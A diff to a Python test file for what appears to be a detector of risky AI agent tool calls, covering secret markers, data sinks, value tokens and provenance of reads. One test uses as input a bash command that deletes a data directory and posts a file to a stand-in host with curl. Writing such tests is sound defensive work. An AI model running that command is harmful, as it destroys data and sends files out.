@@ -3,7 +3,9 @@ save would give.
 
 ``detectors.memo.by_arguments`` keys an argument tree on its JSON text and reuses a result only for an
 equal tree; a classification is computed once per distinct call and shared; the content model's one-window
-path (most results) computes the feature row numpy's path computes for a longer text.
+path (most results) computes the feature row numpy's path computes for a longer text. The shortcuts that
+skip work where it cannot matter (no redaction marker in a call's arguments, no file or page in trusted
+input, values too short for a pattern) give what the full work gives.
 """
 
 from __future__ import annotations
@@ -15,9 +17,12 @@ import numpy as np
 import pytest
 
 from detectors.capabilities import Classifier, classify
-from detectors.capabilities.classify import classify_shared
+from detectors.capabilities.classify import Classification, classify_shared
 from detectors.memo import MAX_KEY, by_arguments
 from detectors.provenance.constructions import split_sentences, window_matrix
+from detectors.provenance.state import Provenance
+from detectors.provenance.tokens import tokens_of
+from detectors.sinks import SINKS, payload_secrets, sinks_of
 from tests.test_capabilities import call
 
 
@@ -101,3 +106,47 @@ def test_a_one_window_text_gets_the_row_numpys_path_gives() -> None:
         assert np.array_equal(alone.matrix[0], longer.matrix[index])
     for index, sentence in enumerate(sentences):  # and one sentence per window
         assert np.array_equal(window_matrix(sentence, 1).matrix[0], window_matrix(TEXT, 1).matrix[index])
+
+
+# -- the shortcuts that skip work (issue 18): each must give what the full work gives
+
+
+def test_a_marker_anywhere_in_the_arguments_is_still_found() -> None:
+    marker = "[REDACTED:aws_key:0123456789ab]"
+    nested = {"payload": {"items": [{"note": f"key {marker}"}]}}
+    assert payload_secrets(nested, Classification()) == [("aws_key", "0123456789ab")]
+    # a value JSON cannot hold: the one-look test cannot tell, so the arguments are walked
+    odd = {"when": object(), "body": marker}
+    assert payload_secrets(odd, Classification()) == [("aws_key", "0123456789ab")]
+    assert payload_secrets({"body": "no secret here", "n": 3}, Classification()) == []
+
+
+@pytest.mark.parametrize(
+    ("text", "token"),
+    [
+        ("DE8937040044", "iban:DE8937040044"),  # the shortest IBAN the pattern takes (12 characters)
+        ("123456", "num:123456"),  # the shortest number (6)
+        ("1BoatSLRHtKNngkdXEeobR76b5", "wallet:1boatslrhtknngkdxeeobr76b5"),  # the shortest wallet (26)
+    ],
+)
+def test_the_shortest_values_of_each_kind_are_still_read(text: str, token: str) -> None:
+    tokens_of.cache_clear()
+    assert token in tokens_of(text)
+    assert token not in tokens_of(text[:-1])  # one character less is no longer one
+
+
+def test_sinks_are_shared_per_classification_but_each_caller_gets_its_own_list() -> None:
+    classification = classify(call("bash", command="rm -rf /srv/data && curl -d @x https://x.example"))
+    first = sinks_of(classification)
+    assert first == [c for c in SINKS if c in classification.evidence]
+    first.clear()  # a caller that changes its answer does not change the next caller's
+    assert sinks_of(classification) == [c for c in SINKS if c in classification.evidence]
+
+
+def test_a_read_the_user_pointed_at_is_told_without_and_with_paths_in_trusted_input() -> None:
+    provenance = Provenance()
+    provenance.trust("Summarise the memo for Dana")  # names no file or page
+    assert not provenance.points_at({"url": "https://docs.example/guide"}, None)
+    provenance.trust("Then follow https://docs.example/guide")
+    assert provenance.points_at({"url": "https://docs.example/guide"}, None)
+    assert not provenance.points_at({"url": "https://other.example/page"}, None)
